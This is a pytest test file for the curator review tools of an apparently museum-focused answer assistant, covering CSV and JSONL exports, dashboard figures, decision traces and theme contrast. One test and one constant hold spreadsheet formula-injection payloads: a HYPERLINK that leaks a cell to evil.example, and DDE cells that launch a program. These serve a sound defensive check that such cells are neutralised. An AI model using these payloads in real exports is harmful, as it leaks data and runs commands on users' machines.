"""Curator review data: the table, exports and dashboard figures."""

import csv
import datetime as dt
import io
import json

import pytest

from assistant.answer import Answer
from assistant.answer_log import AnswerLog, LogFilter
from ui.csv_export import FORMULA_STARTS, csv_bytes, spreadsheet_safe
from ui.review_data import (
    Decisions,
    assignee_choices,
    decisions,
    item_history,
    local_day_bounds,
    most_cited,
    outcome_mix,
    per_day,
    per_language,
    status_counts,
    table,
    to_csv,
    to_jsonl,
    top_refused,
    work_table,
)
from ui.theme import OUTCOME_COLORS, THEME, contrast_ratio

NOON = dt.datetime(2026, 11, 20, 12, tzinfo=dt.UTC)


def row(i, outcome="answered", question="Who painted it?", cited=("The Night Watch",), **kw):
    return {
        "id": i,
        "created_at": NOON + dt.timedelta(days=i % 2),
        "question": question,
        "outcome": outcome,
        "answer": "An answer, with a comma. [1]",
        "refusal_reason": None,
        "model": "scripted",
        "citations": [{"n": n, "title": t, "source_id": t.lower()} for n, t in enumerate(cited)],
        "n_flags": 0,
        "n_dropped": 0,
        "top_score": 0.7,
        "review_verdict": None,
        "review_note": None,
        "reviewed_by": None,
        "reviewed_at": None,
        "retrieved": [],
        **kw,
    }


ROWS = [
    row(1),
    row(2, "refused", "What is the capital of France?", ()),
    row(3, "refused", "what is the capital of France", ()),
    row(4, "corrected", cited=("The Night Watch", "Mona Lisa")),
]


def test_csv_has_one_line_per_answer_and_reads_back():
    data = to_csv(ROWS)
    assert data.startswith("\ufeff".encode())  # spreadsheets detect UTF-8
    back = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [r["id"] for r in back] == ["1", "2", "3", "4"]
    assert back[3]["cited_sources"] == "The Night Watch; Mona Lisa"
    assert back[0]["answer"] == "An answer, with a comma. [1]"


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    "cell",
    [
        FORMULA,
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return"],
)
def test_a_cell_starting_like_a_formula_is_written_as_text(cell):
    assert spreadsheet_safe(cell) == "'" + cell
    back = next(csv.DictReader(io.StringIO(csv_bytes([{"q": cell}], ["q"]).decode("utf-8-sig"))))
    assert back["q"] == "'" + cell


@pytest.mark.parametrize(
    "cell",
    ["Who painted it?", "SK-C-5", "1650-1699", "'quoted", " =1+1", "", None, 42, -0.5],
)
def test_other_cells_are_written_as_they_are(cell):
    assert spreadsheet_safe(cell) == cell


def test_an_export_from_a_real_log_has_the_formula_neutralised(tmp_path):
    log = AnswerLog(f"sqlite:///{tmp_path / 'log.sqlite3'}")
    answer_id = log.record(Answer(FORMULA, "refused", "No.", refusal_reason="-1+1"))
    assert answer_id is not None
    log.review(answer_id, "incorrect", "@note", "jane")
    exported = to_csv(log.search(LogFilter())).decode("utf-8-sig")
    back = next(csv.DictReader(io.StringIO(exported)))
    assert back["question"] == "'" + FORMULA
    assert back["refusal_reason"] == "'-1+1" and back["review_note"] == "'@note"
    assert back["answer"] == "No." and back["id"] == str(answer_id)
    assert not [v for v in back.values() if v.startswith(FORMULA_STARTS)]


def test_jsonl_keeps_every_field():
    lines = to_jsonl(ROWS).decode().splitlines()
    first = json.loads(lines[0])
    assert len(lines) == 4 and first["created_at"].startswith("2026-11-2")
    assert "retrieved" in first and first["citations"][0]["title"] == "The Night Watch"


def test_dashboard_figures():
    assert sum(d["questions"] for d in per_day(ROWS)) == 4
    assert {d["outcome"]: d["answers"] for d in outcome_mix(ROWS)} == {
        "answered": 1,
        "refused": 2,
        "corrected": 1,
    }
    assert top_refused(ROWS) == [{"Question": "what is the capital of France", "Times asked": 2}]
    assert most_cited(ROWS)[0] == {"source": "The Night Watch", "answers": 2}


def test_questions_are_counted_per_language_with_unrecorded_ones_last():
    rows = [
        row(1, language="fr"),
        row(2, language="en"),
        row(3, language="fr"),
        row(4),  # logged before languages were recorded: no key at all
        row(5, language=None),
        row(6, language="nl"),
    ]
    assert per_language(rows) == [
        {"language": "fr", "questions": 2},
        {"language": "en", "questions": 1},  # ties: by code
        {"language": "nl", "questions": 1},
        {"language": "unknown", "questions": 2},
    ]
    assert per_language([]) == []


def test_shown_words_go_through_the_pages_translate_function():
    dutch = {
        "Answered": "Beantwoord",
        "Needs a source": "Bron nodig",
        "Question": "Vraag",
        "Times asked": "Keren gevraagd",
        "Refused by {stage}: {reason}": "Geweigerd door {stage}: {reason}",
    }.get

    def translate(message):
        return dutch(message, message)

    shown = table([row(1, review_verdict="needs_source")], translate)[0]
    assert shown["outcome"] == "Beantwoord" and shown["review"] == "Bron nodig"
    assert top_refused(ROWS, translate=translate)[0] == {
        "Vraag": "what is the capital of France",
        "Keren gevraagd": 2,
    }
    refused = decisions(row(1, "refused", trace=[step("guard", "refused", "a reason")]), translate)
    assert refused.summary == "Geweigerd door guard: a reason"  # the log's words stay as logged


def test_table_rows_are_short_and_labelled():
    shown = table([row(1, review_verdict="needs_source", n_flags=2)])[0]
    assert shown["review"] == "Needs a source" and shown["flags"] == 2
    assert shown["outcome"] == "Answered"


def step(stage, decision, detail=""):
    return {"stage": stage, "decision": decision, "detail": detail}


@pytest.mark.parametrize(
    "outcome, trace, expect",
    [
        (
            "refused",
            [step("guard", "passed"), step("identify", "refused", "no record matches SK-Z-9")],
            Decisions(
                "Refused by identify: no record matches SK-Z-9",
                ["guard: passed", "identify: refused (no record matches SK-Z-9)"],
            ),
        ),
        (
            "answered",
            [step("draft", "model replied"), step("compose", "answered", "2 sentences")],
            Decisions(None, ["draft: model replied", "compose: answered (2 sentences)"]),
        ),
        (
            "corrected",
            [step("premises", "conflicts", "attributes it to Vermeer")],
            Decisions(None, ["premises: conflicts (attributes it to Vermeer)"]),
        ),
        ("refused", [step("guard", "refused")], Decisions("Refused by guard", ["guard: refused"])),
        # A refusal no stage recorded (the reason line above says why): no stage to name.
        ("refused", [step("guard", "passed")], Decisions(None, ["guard: passed"])),
        # Rows logged before migration 0004 have no trace at all.
        ("refused", None, Decisions(None, [])),
        ("answered", [], Decisions(None, [])),
        # A damaged record shows what it has rather than breaking the page.
        ("answered", [{"stage": "verify"}, "junk"], Decisions(None, ["verify"])),
    ],
)
def test_the_trace_reads_one_line_per_stage_and_names_the_refusing_stage(outcome, trace, expect):
    assert decisions(row(1, outcome, trace=trace)) == expect


def test_a_row_without_a_trace_key_still_reads():
    assert decisions(row(1)) == Decisions(None, [])


def test_a_picked_day_range_covers_whole_local_days():
    since, until = local_day_bounds(dt.date(2026, 11, 20), dt.date(2026, 11, 21))
    assert until - since == dt.timedelta(days=2)
    assert since.tzinfo is dt.UTC


def test_theme_colours_meet_wcag_aa_contrast():
    white = THEME["backgroundColor"]
    assert contrast_ratio(THEME["textColor"], white) >= 7
    assert contrast_ratio(THEME["textColor"], THEME["secondaryBackgroundColor"]) >= 7
    assert contrast_ratio("#ffffff", THEME["primaryColor"]) >= 4.5  # primary button text
    assert contrast_ratio(THEME["linkColor"], white) >= 4.5
    assert contrast_ratio(THEME["borderColor"], white) >= 3  # input outlines
    for color in OUTCOME_COLORS.values():
        assert contrast_ratio(color, white) >= 3  # chart marks


def test_the_work_list_table_names_status_reason_and_who_is_on_it():
    item = {
        "id": 7,
        "answer_id": 42,
        "reason": "needs_source",
        "status": "wont_fix",
        "assignee": None,
        "question": "Who painted it?",
        "updated_at": NOON,
    }
    [shown] = work_table([item])
    assert shown == {
        "item": 7,
        "answer": 42,
        "status": "Won't fix",
        "reason": "Verdict: needs a source",
        "assignee": "",
        "question": "Who painted it?",
        "updated": NOON.astimezone().strftime("%Y-%m-%d %H:%M"),
    }
    assert work_table([item], lambda m: m.upper())[0]["status"] == "WON'T FIX"


def test_status_counts_keep_the_statuses_order_with_labels():
    counts = {"open": 2, "in_progress": 0, "resolved": 1, "wont_fix": 0}
    assert status_counts(counts) == [
        ("Open", 2),
        ("In progress", 0),
        ("Resolved", 1),
        ("Won't fix", 0),
    ]


def test_an_items_history_says_when_who_and_what():
    at = NOON.astimezone().strftime("%Y-%m-%d %H:%M")
    events = [
        {"at": NOON, "actor": None, "action": "opened", "value": "flag"},
        {"at": NOON, "actor": "ada", "action": "reported", "value": "incorrect"},
        {"at": NOON, "actor": "ada", "action": "status", "value": "resolved"},
        {"at": NOON, "actor": "bob", "action": "assignee", "value": None},
    ]
    assert item_history(events) == [
        f"{at} · a visitor · opened: Visitor's flag",
        f"{at} · ada · reported again: Verdict: incorrect",
        f"{at} · ada · status: Resolved",
        f"{at} · bob · assigned to nobody",
    ]


def test_an_item_can_go_to_nobody_me_or_active_staff_and_keeps_its_assignee():
    assert assignee_choices(["zoe", "ada", "bob"], "bob", None) == ["", "bob", "ada", "zoe"]
    # Carol's account was disabled since she took the item: she is still listed.
    assert assignee_choices(["ada"], "ada", "carol") == ["", "ada", "carol"]


def test_flagged_sources_count_flags_and_incorrect_verdicts_from_a_real_log(tmp_path):
    from assistant.answer import AnswerSentence, Citation
    from ui.review_data import flagged_sources

    log = AnswerLog(f"sqlite:///{tmp_path / 'log.sqlite3'}")

    def cited(*titles: str) -> int:
        answer = Answer(
            "Who painted it?",
            "answered",
            "It is by the painter. [1]",
            sentences=[AnswerSentence("It is by the painter.", [1], "text")],
            citations=[Citation(n, t.lower(), t, "", "", "", "…") for n, t in enumerate(titles, 1)],
        )
        answer_id = log.record(answer)
        assert answer_id is not None
        return answer_id

    watch_flagged = cited("The Night Watch")
    log.flag(watch_flagged, "wrong painter")
    log.flag(watch_flagged, "still wrong")  # two flags on one answer: one flagged answer
    both_incorrect = cited("The Night Watch", "Mona Lisa")
    log.review(both_incorrect, "incorrect", "", "ada")
    cited("The Night Watch")
    log.review(cited("Mona Lisa"), "correct", "", "ada")
    log.review(cited("Rosetta Stone"), "needs_source", "", "ada")  # not judged incorrect

    rows = log.search(LogFilter())
    assert flagged_sources(rows) == [
        {"source": "The Night Watch", "flagged": 2, "answers": 3},
        {"source": "Mona Lisa", "flagged": 1, "answers": 2},
    ]
    assert flagged_sources(rows, limit=1) == flagged_sources(rows)[:1]
    assert most_cited(rows)[0] == {"source": "The Night Watch", "answers": 3}


def test_topic_table_headings_name_the_trend_window():
    from assistant.topics import Topic
    from ui.review_data import topic_table

    found = [
        Topic("Who made the Ishtar Gate?", 5, 3, 1, ("Who built it?", "Ishtar builder", "a", "b")),
        Topic("Opening hours?", 2, 0, 2, ()),
        Topic("Café?", 1, 0, 0, ()),
    ]
    rows = topic_table(found, 7)
    assert rows[0] == {
        "Most asked question": "Who made the Ishtar Gate?",
        "Times asked": 5,
        "Last 7 days": 3,
        "7 days before": 1,
        "Trend": "+2",
        "Also asked as": "Who built it? · Ishtar builder · a",
    }
    assert [r["Trend"] for r in rows] == ["+2", "-2", "0"]


@pytest.mark.parametrize(
    "days, expected",
    [
        # A picked range, one day while the range is still being picked, or nothing yet.
        (
            (dt.date(2026, 11, 2), dt.date(2026, 11, 9)),
            (dt.date(2026, 11, 2), dt.date(2026, 11, 9)),
        ),
        ((dt.date(2026, 11, 2),), (dt.date(2026, 11, 2), dt.date(2026, 11, 2))),
        (dt.date(2026, 11, 2), (dt.date(2026, 11, 2), dt.date(2026, 11, 2))),
        ((), (dt.date(2026, 11, 4), dt.date(2026, 11, 4))),
    ],
)
def test_a_date_range_picker_gives_its_first_and_last_day(days, expected):
    from ui.review_data import picked_days

    assert picked_days(days, dt.date(2026, 12, 4)) == expected
